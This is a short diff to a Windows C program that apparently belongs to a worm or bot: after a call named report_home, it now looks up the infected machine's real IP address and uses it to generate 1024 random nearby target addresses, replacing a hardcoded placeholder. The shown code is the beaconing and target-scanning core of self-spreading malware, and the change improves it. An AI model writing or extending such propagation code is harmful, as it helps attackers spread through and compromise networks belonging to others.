@@ -39,7 +39,11 @@ int main(void)
 	srand(GetTickCount());
 	WSAStartup(MAKEWORD(2, 2), &data);
 	report_home();
-	unsigned long own = inet_addr("192.0.2.20");
+	char name[64] = "";
+	gethostname(name, sizeof name);
+	const struct hostent *host = gethostbyname(name);
+	unsigned long own =
+		host ? *(const unsigned long *)host->h_addr_list[0] : inet_addr("192.0.2.20");
 	for (unsigned i = 0; i < 1024; i++) {
 		unsigned long target = (unsigned long)(rand() % 256) << 16 |
 				       (unsigned long)(1 + rand() % 254) << 24;
